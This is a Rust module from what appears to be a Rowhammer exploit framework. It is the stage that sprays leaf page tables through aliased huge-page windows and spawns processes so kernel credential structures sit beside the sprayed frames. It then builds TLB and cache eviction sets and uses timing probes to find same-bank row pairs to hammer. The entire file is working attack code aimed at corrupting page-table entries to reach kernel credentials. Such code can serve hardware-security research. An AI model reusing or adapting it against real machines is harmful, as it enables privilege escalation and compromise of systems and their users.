//! Page-table spray and same-bank pair discovery.

use serde::{Deserialize, Serialize};

use super::evset::{data_offset, EvictionSet};
use super::Attacker;
use crate::config::{HUGE_PAGE_SIZE, PAGE_SIZE};
use crate::error::AttackError;
use crate::os::{MapKind, Syscalls};
use crate::util::{median, two_cluster_split};

/// Base of the sprayed windows; 1 GiB aligned.
pub const SPRAY_BASE: u64 = 0x100_0000_0000;
/// Per-batch pattern at offset 0 of each shared frame.
pub const SPRAY_MARK: u64 = 0x5052_4159_0000_0000;
/// Page of each window used as the hammer target.
pub const TARGET_PAGE: u64 = 1;

#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Spray {
    pub base: u64,
    pub windows: u64,
    /// First window of each batch.
    pub batch_start: Vec<u64>,
    /// Private page whose frame a batch aliases.
    pub sources: Vec<u64>,
}

impl Spray {
    pub fn window_va(&self, w: u64) -> u64 {
        self.base + w * HUGE_PAGE_SIZE
    }

    pub fn batch_of(&self, w: u64) -> usize {
        self.batch_start.iter().rposition(|&s| s <= w).unwrap_or(0)
    }

    pub fn marker(batch: usize) -> u64 {
        SPRAY_MARK | batch as u64
    }

    pub fn window_of(&self, va: u64) -> Option<u64> {
        (va >= self.base && va < self.window_va(self.windows)).then(|| (va - self.base) / HUGE_PAGE_SIZE)
    }
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct HammerPair {
    pub a: u64,
    pub b: u64,
    /// Median back-to-back latency of the two translations.
    pub evidence: u64,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Candidate {
    pub pair: HammerPair,
    pub window_a: u64,
    pub tlb_a: EvictionSet,
    pub llc_a: EvictionSet,
    pub tlb_b: EvictionSet,
    pub llc_b: EvictionSet,
    pub same_bank: bool,
}

impl<S: Syscalls> Attacker<'_, S> {
    /// Offset within an L1PT of the entry mapping each hammer target.
    pub(crate) fn target_pte_offset(&self) -> u64 {
        (TARGET_PAGE * 8) & !(self.hw.line_bytes - 1)
    }

    /// Sprays up to `spray_tables` leaf tables in batches; each batch maps
    /// 2 MiB windows that all alias one fresh private frame. Stops early,
    /// keeping what it has, when the kernel runs out of table frames.
    pub fn spray_tables(&mut self) -> Result<(), AttackError> {
        const CHUNK: u64 = 64;
        let batches = self.cfg.spray_batches.max(1) as u64;
        let total = self.cfg.spray_tables as u64;
        let per = total.div_ceil(batches);
        let mut sp = Spray { base: SPRAY_BASE, ..Default::default() };
        let mut w = 0;
        'outer: for b in 0..batches {
            let n = per.min(total - w);
            if n == 0 {
                break;
            }
            // spread the shared frames through free memory
            let drain = self.cfg.drain_pages as u64 / batches;
            if drain > 0 && self.map(None, drain * PAGE_SIZE, MapKind::Anon, true).is_err() {
                break;
            }
            // credentials just below the shared frame
            let procs = self.cfg.cred_spray_processes as u64 / batches;
            if procs > 0 {
                self.sys.spawn(procs as u32)?;
            }
            let Ok(src) = self.map(None, PAGE_SIZE, MapKind::Anon, true) else { break };
            self.sys.write_u64(src, Spray::marker(b as usize))?;
            sp.batch_start.push(w);
            sp.sources.push(src);
            let end = w + n;
            while w < end {
                let k = CHUNK.min(end - w);
                let va = sp.window_va(w);
                if let Err(e) = self.map(Some(va), k * HUGE_PAGE_SIZE, MapKind::Alias { source: src }, true) {
                    self.log("spray", format!("stopped at window {w}: {e}"));
                    // partial chunk: give its tables back
                    let _ = self.sys.munmap(va, k * HUGE_PAGE_SIZE);
                    break 'outer;
                }
                w += k;
            }
        }
        if sp.batch_start.last() == Some(&w) {
            sp.batch_start.pop();
            sp.sources.pop();
        }
        if w == 0 {
            return Err(AttackError::Precondition("no page tables could be sprayed"));
        }
        sp.windows = w;
        self.spray = sp;
        self.log("spray", format!("windows={w}"));
        Ok(())
    }

    /// Windows between the two rows of a pair: 2 * RowsSize * 512 bytes of
    /// address space.
    pub fn pair_stride_windows(&self) -> u64 {
        2 * self.hw.rows_size * 512 / HUGE_PAGE_SIZE
    }

    /// Address accessed to hammer window `w`: inside the target page, off
    /// the cache sets of its leaf entry.
    pub fn target_va(&self, w: u64) -> u64 {
        self.spray.window_va(w) + TARGET_PAGE * PAGE_SIZE + data_offset(self.target_pte_offset())
    }

    /// TLB and LLC eviction sets for one target.
    pub fn target_sets(&mut self, va: u64) -> Result<(EvictionSet, EvictionSet), AttackError> {
        let page = va & !(PAGE_SIZE - 1);
        let tlb = self.tlb_evset(page);
        let llc = self.select_llc_eviction_set(page, &tlb)?;
        Ok((tlb, llc))
    }

    /// Median latency of translating `a` then `b` with both L1PTEs evicted
    /// and all rows idle beforehand.
    pub fn probe_pair(&mut self, c: &Candidate) -> Result<u64, AttackError> {
        let mut ev = Vec::new();
        for s in [&c.tlb_a, &c.llc_a, &c.tlb_b, &c.llc_b] {
            ev.extend_from_slice(&s.members);
        }
        let trials = self.cfg.probe_trials.max(1);
        let mut lat = Vec::with_capacity(trials as usize);
        for _ in 0..trials {
            self.sys.read_u64(c.pair.a)?;
            self.sys.read_u64(c.pair.b)?;
            self.sys.touch_batch(&ev)?;
            self.sys.spin(self.cfg.probe_spin_cycles);
            let ta = self.sys.timed_read(c.pair.a)?;
            let tb = self.sys.timed_read(c.pair.b)?;
            lat.push(ta + tb);
        }
        Ok(median(&mut lat))
    }

    /// Threshold separating conflict latencies, once the probe history holds
    /// two well separated populations.
    pub fn conflict_threshold(&self) -> Option<u64> {
        let xs = &self.probe_medians;
        let t = two_cluster_split(xs)?;
        let (lo, hi): (Vec<f64>, Vec<f64>) = {
            let lo: Vec<f64> = xs.iter().filter(|&&x| x <= t).map(|&x| x as f64).collect();
            let hi: Vec<f64> = xs.iter().filter(|&&x| x > t).map(|&x| x as f64).collect();
            (lo, hi)
        };
        if lo.is_empty() || hi.is_empty() {
            return None;
        }
        let mean = |v: &[f64]| v.iter().sum::<f64>() / v.len() as f64;
        let var = |v: &[f64], m: f64| v.iter().map(|x| (x - m) * (x - m)).sum::<f64>() / v.len() as f64;
        let (ml, mh) = (mean(&lo), mean(&hi));
        let spread = var(&lo, ml).max(var(&hi, mh)).sqrt().max(1.0);
        (mh - ml > 4.0 * spread).then_some(t)
    }

    /// Probes candidate pairs whose first window lies in `windows` and marks
    /// those classified as same-bank.
    pub fn find_hammer_pairs(&mut self, windows: impl IntoIterator<Item = u64>) -> Result<Vec<Candidate>, AttackError> {
        let stride = self.pair_stride_windows();
        let mut out = Vec::new();
        for w in windows {
            if w + stride >= self.spray.windows {
                continue;
            }
            let (a, b) = (self.target_va(w), self.target_va(w + stride));
            let (tlb_a, llc_a) = self.target_sets(a)?;
            let (tlb_b, llc_b) = self.target_sets(b)?;
            let mut c = Candidate { pair: HammerPair { a, b, evidence: 0 }, window_a: w, tlb_a, llc_a, tlb_b, llc_b, same_bank: false };
            c.pair.evidence = self.probe_pair(&c)?;
            self.probe_medians.push(c.pair.evidence);
            out.push(c);
        }
        if let Some(t) = self.conflict_threshold() {
            for c in &mut out {
                c.same_bank = c.pair.evidence > t;
            }
        }
        Ok(out)
    }
}
